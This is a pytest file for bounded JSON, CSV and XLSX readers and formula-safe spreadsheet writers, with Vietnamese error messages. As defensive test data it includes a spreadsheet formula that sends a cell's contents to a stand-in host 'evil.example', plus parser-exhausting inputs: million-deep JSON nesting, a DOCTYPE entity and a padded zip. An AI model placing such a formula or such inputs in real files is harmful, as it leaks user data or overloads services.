"""The bounded readers and the safe writers of files exchanged with other systems
(onestop.adapters.files): each bound refuses naming the file, line and field; what is within
bounds reads as before; nothing written can become a formula or break the file."""

from __future__ import annotations

import csv
import io
import json
import time
import unicodedata
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from onestop.adapters import files
from onestop.adapters.files import FileRefused, Limits

SMALL = Limits(max_bytes=1 << 20, max_rows=100, max_columns=8, max_field_chars=50, max_depth=4)


def rows(path: Path, limits: Limits = SMALL, **kw) -> list[tuple[int, list]]:
    return list(files.read_table(path, limits, **kw))


# --- JSON -----------------------------------------------------------------------------------------


def test_json_array_gives_each_element_with_the_line_it_starts_on(tmp_path):
    path = tmp_path / "a.json"
    path.write_text('[\n  {"a": 1},\n\n  {"b": [2,\n 3]},\n  {"c": "x"}\n]\n')
    got = list(files.json_array(path, SMALL))
    assert got == [(2, 0, {"a": 1}), (4, 1, {"b": [2, 3]}), (6, 2, {"c": "x"})]
    path.write_text("[]")
    assert list(files.json_array(path, SMALL)) == []


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ('[\n{"a": 1}\n{"b": 2}]', 3),  # missing comma between elements
        ('[\n{"a": 1}] x', 2),  # data after the array
        ('[\n{"a": 1,\n"b" 2}]', 3),  # inside an element: the decoder's own line
        ('\n\n{"a": 1}', 3),  # not an array
    ],
)
def test_json_array_syntax_errors_name_their_line(tmp_path, text, line):
    path = tmp_path / "bad.json"
    path.write_text(text)
    with pytest.raises(FileRefused) as caught:
        list(files.json_array(path, SMALL))
    assert caught.value.line == line and "bad.json" in caught.value.message


def test_json_nesting_is_bounded_and_named(tmp_path):
    path = tmp_path / "deep.json"
    path.write_text('[\n{"ok": [[1]],\n "documents": [[[[[1]]]]]}]')
    with pytest.raises(FileRefused) as caught:
        files.read_json(path, SMALL)
    assert caught.value.line == 3 and "lồng nhau quá 4 cấp" in caught.value.message
    # Brackets inside strings (escaped quotes and backslashes included) are text, not nesting.
    path.write_text(json.dumps({"a": '[[[[[[\\"{{{{{{', "b": "\\", "c": "]]]]]]]"}))
    assert files.read_json(path, SMALL)["a"] == '[[[[[[\\"{{{{{{'


def test_json_numbers_are_bounded_but_not_strings_of_digits(tmp_path):
    path = tmp_path / "n.json"
    path.write_text('{"code": "' + "1" * 200 + '",\n "fee": -' + "9" * 41 + "}")
    with pytest.raises(FileRefused) as caught:
        files.read_json(path, SMALL)
    assert (caught.value.line, caught.value.field) == (2, "fee")
    path.write_text('{"code": "' + "1" * 200 + '", "fee": 1.5e300}')
    assert files.read_json(path, SMALL)["fee"] == 1.5e300


def test_json_value_count_and_size_are_bounded(tmp_path):
    path = tmp_path / "many.json"
    path.write_text("[" + ",".join(["0"] * 1001) + "]")
    with pytest.raises(FileRefused, match=r"quá 1\.000 giá trị"):
        files.read_json(path, Limits(max_json_values=1000))
    with pytest.raises(FileRefused, match="quá giới hạn"):
        files.read_json(path, Limits(max_bytes=100))


def test_json_array_elements_are_bounded(tmp_path):
    path = tmp_path / "long.json"
    path.write_text("[\n1,\n2,\n3]")
    with pytest.raises(FileRefused, match="quá 2 phần tử") as caught:
        list(files.json_array(path, Limits(max_rows=2)))
    assert caught.value.line == 4


def test_json_deep_attack_is_refused_at_once(tmp_path):
    path = tmp_path / "deep.json"
    path.write_text("[" * 1_000_000 + "]" * 1_000_000)
    started = time.perf_counter()
    with pytest.raises(FileRefused) as caught:
        list(files.json_array(path, Limits()))
    assert caught.value.line == 1
    assert time.perf_counter() - started < 5


# --- CSV ------------------------------------------------------------------------------------------


def test_csv_rows_are_numbered_as_a_spreadsheet_shows_them(tmp_path):
    path = tmp_path / "t.csv"
    path.write_bytes('a;b\r\n"x\r\ny";2\r\n\r\nz;3\r\n'.encode("utf-8-sig"))
    assert rows(path) == [(1, ["a", "b"]), (2, ["x\r\ny", "2"]), (3, []), (4, ["z", "3"])]


def test_csv_falls_back_to_cp1258_only_when_asked(tmp_path):
    path = tmp_path / "t.csv"
    # "Đường": Đ, ư, ơ are letters of cp1258; the tone is a combining mark (0xCC).
    path.write_bytes(b"name,fee\n\xd0\xfd\xf5\xccng,0\n")
    got = rows(path, encodings=("utf-8-sig", "cp1258"))[1][1]
    assert [unicodedata.normalize("NFC", c) for c in got] == ["Đường", "0"]
    with pytest.raises(FileRefused, match="UTF-8"):
        rows(path)


def test_csv_field_past_the_cell_limit_names_its_column(tmp_path):
    path = tmp_path / "t.csv"
    path.write_text('code,name,reason\n1,"ok",\n2,"quoted, with comma","' + "x" * 51 + '"\n')
    with pytest.raises(FileRefused) as caught:
        rows(path)
    assert (caught.value.line, caught.value.field) == (3, "reason")
    assert "50 ký tự" in caught.value.message


def test_csv_field_limit_is_given_back(tmp_path):
    """csv.field_size_limit is process-wide: other readers keep theirs."""
    before = csv.field_size_limit()
    path = tmp_path / "t.csv"
    path.write_text("a\n1\n")
    assert rows(path)[1] == (2, ["1"])
    with pytest.raises(FileRefused):
        path.write_text("a\n" + "x" * 51 + "\n")
        rows(path)
    assert csv.field_size_limit() == before


def test_csv_record_past_its_bound_is_refused_before_it_is_held(tmp_path):
    path = tmp_path / "t.csv"
    # Many short quoted lines: each field within bounds, the record not.
    path.write_text('a,b\n1,"' + "line\n" * 100 + '"\n')
    limits = Limits(max_field_chars=10_000, max_record_chars=200)
    with pytest.raises(FileRefused) as caught:
        rows(path, limits)
    assert (caught.value.line, caught.value.field) == (2, "b")


def test_csv_columns_and_rows_are_bounded(tmp_path):
    path = tmp_path / "t.csv"
    path.write_text("a,b\n1,2,,,,,,,,,,\n")  # empty trailing columns: dropped
    assert rows(path)[1] == (2, ["1", "2", "", "", "", "", "", ""])
    path.write_text("a,b\n1,2,,,,,,,,x\n")
    with pytest.raises(FileRefused) as caught:
        rows(path)
    assert (caught.value.line, caught.value.field) == (2, "J")
    path.write_text("a\n" + "1\n" * 99 + "\n\n")
    assert len(rows(path)) == 102  # blank lines past the bound are harmless
    path.write_text("a\n" + "1\n" * 100)
    with pytest.raises(FileRefused, match="quá 100 dòng") as caught:
        rows(path)
    assert caught.value.line == 101


# --- XLSX -----------------------------------------------------------------------------------------


def _xlsx(path: Path, *grid: list) -> Path:
    workbook = Workbook()
    for row in grid:
        workbook.active.append(row)
    workbook.save(path)
    return path


def test_xlsx_within_bounds_keeps_types(tmp_path):
    from datetime import datetime

    path = _xlsx(tmp_path / "t.xlsx", ["a", "b", "c"], ["x", 2, datetime(2026, 11, 16, 15, 30)])
    got = rows(path)
    assert got[1][1][:3] == ["x", 2, datetime(2026, 11, 16, 15, 30)]
    assert len(got) == 2 and len(got[1][1]) == SMALL.max_columns


def test_xlsx_value_out_of_bounds_is_refused_by_its_cell(tmp_path):
    path = _xlsx(tmp_path / "t.xlsx", ["a"])
    workbook = load_workbook(path)
    workbook.active["I2"] = "far"
    workbook.save(path)
    with pytest.raises(FileRefused) as caught:
        rows(path)
    assert (caught.value.line, caught.value.field) == (2, "I")
    assert "ô I2" in caught.value.message


def test_xlsx_styled_empty_cells_far_away_are_harmless(tmp_path):
    path = _xlsx(tmp_path / "t.xlsx", ["a", "b"], ["x", "y"])
    workbook = load_workbook(path)
    workbook.active["XFD1048576"].font = Font(bold=True)  # formatting, no value
    workbook.save(path)
    started = time.perf_counter()
    assert [n for n, _ in rows(path)] == [1, 2]
    assert time.perf_counter() - started < 5


def _raw_xlsx(path: Path, sheet: str, strings: str | None = None, extra: int = 0) -> Path:
    """A workbook written part by part, to hold what openpyxl would never write."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    types = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    overrides = (
        f'<Override PartName="/xl/workbook.xml" ContentType="{types}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{types}.worksheet+xml"/>'
    )
    rels = f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
    if strings is not None:
        overrides += (
            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{types}.sharedStrings+xml"/>'
        )
        rels += f'<Relationship Id="rId2" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            f'relationships+xml"/>{overrides}</Types>',
        )
        z.writestr(
            "_rels/.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>",
        )
        z.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets>'
            '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{rels}</Relationships>",
        )
        z.writestr("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{main}">{sheet}</worksheet>')
        if strings is not None:
            z.writestr("xl/sharedStrings.xml", f'<sst xmlns="{main}">{strings}</sst>')
        for i in range(extra):
            z.writestr(f"pad/{i}", b"")
    return path


def test_raw_xlsx_within_bounds_reads(tmp_path):
    sheet = '<sheetData><row><c t="s"><v>0</v></c><c><v>12</v></c></row></sheetData>'
    path = _raw_xlsx(tmp_path / "ok.xlsx", sheet, "<si><t>tên</t></si>")
    assert rows(path)[0][1][:2] == ["tên", 12]


@pytest.mark.parametrize(
    ("sheet", "strings", "words"),
    [
        # a number of 41 digits in a cell
        ("<sheetData><row><c><v>1" + "0" * 40 + "</v></c></row></sheetData>", None, "số dài"),
        # an inline string longer than a cell may be
        (
            '<sheetData><row><c t="inlineStr"><is><t>' + "x" * 51 + "</t></is></c></row>"
            "</sheetData>",
            None,
            "ô dài",
        ),
        # a row of more cells than Excel has columns, none with a reference
        ("<sheetData><row>" + "<c/>" * 16_385 + "</row></sheetData>", None, "16.384 ô"),
        # more shared strings than allowed (each within its size)
        ("<sheetData/>", "<si><t>a</t></si>" * 1001, "1.000 chuỗi"),
        # one shared string longer than a cell may be
        ("<sheetData/>", "<si><t>" + "x" * 51 + "</t></si>", "dài quá 50"),
    ],
)
def test_raw_xlsx_out_of_bounds(tmp_path, sheet, strings, words):
    path = _raw_xlsx(tmp_path / "bad.xlsx", sheet, strings)
    limits = Limits(max_columns=8, max_field_chars=50, max_shared_strings=1000)
    with pytest.raises(FileRefused, match=words) as caught:
        rows(path, limits)
    assert "bad.xlsx" in caught.value.message


def test_xlsx_with_a_doctype_or_too_many_parts_is_refused(tmp_path):
    path = _raw_xlsx(tmp_path / "dtd.xlsx", "<sheetData/>")
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    parts["xl/worksheets/sheet1.xml"] = (
        b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">]>' + parts["xl/worksheets/sheet1.xml"]
    )
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    with pytest.raises(FileRefused):
        rows(path)
    many = _raw_xlsx(tmp_path / "many.xlsx", "<sheetData/>", extra=60)
    with pytest.raises(FileRefused, match="quá 50 phần"):
        rows(many, Limits(max_zip_entries=50))


def test_not_an_xlsx(tmp_path):
    path = tmp_path / "t.xlsx"
    path.write_bytes(b"PK not really")
    with pytest.raises(FileRefused) as caught:
        rows(path)
    assert caught.value.field == "FILE"
    with pytest.raises(FileRefused, match="định dạng"):
        rows(tmp_path / "t.ods")


# --- writing --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A2,"x")',
            '\'=HYPERLINK("http://evil.example/?x="&A2,"x")',
        ),
        ("+84 912 345 678", "'+84 912 345 678"),  # stored phones are 0912345678: never this
        ("-5", "'-5"),  # text that looks negative is text; numbers are written as numbers
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),  # full-width equals sign
        ("0912345678", "0912345678"),
        ("Nguyễn Văn An", "Nguyễn Văn An"),
        ("12 Nguyễn Huệ - Long Xuyên", "12 Nguyễn Huệ - Long Xuyên"),  # inside: harmless
        ("a\x01b\x0bc\x00", "a\ufffdb\ufffdc\ufffd"),
        ("x\ud800y\uffff", "x\ufffdy\ufffd"),
        ("line 1\nline 2", "line 1\nline 2"),
    ],
)
def test_safe_text(value, written):
    assert files.safe_text(value) == written
    if written.startswith("'"):
        assert files.unquote(written) == value


def test_cell_values_numbers_stay_numbers():
    assert files.cell_value(-5) == -5 and files.cell_value(22_000) == 22_000
    assert files.cell_value(None) == "" and files.cell_value(True) is True
    assert files.unquote("'quoted by a person") == "'quoted by a person"


def test_written_xlsx_and_csv_hold_no_formula(tmp_path):
    grid = [
        ["name", "address", "weight"],
        ["=1+1", '=HYPERLINK("http://evil.example","x")', 350],
        ["a\x01b", "@x", -5],
    ]
    files.write_xlsx(tmp_path / "t.xlsx", "Bưu gửi [16/11]", grid)
    sheet = load_workbook(tmp_path / "t.xlsx").worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    assert [c.value for c in cells] == [
        "name",
        "address",
        "weight",
        "'=1+1",
        '\'=HYPERLINK("http://evil.example","x")',
        350,
        "a\ufffdb",
        "'@x",
        -5,
    ]
    files.write_csv(tmp_path / "t.csv", grid)
    raw = (tmp_path / "t.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    back = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert back[1] == ["'=1+1", '\'=HYPERLINK("http://evil.example","x")', "350"]
    assert back[2] == ["a\ufffdb", "'@x", "-5"]
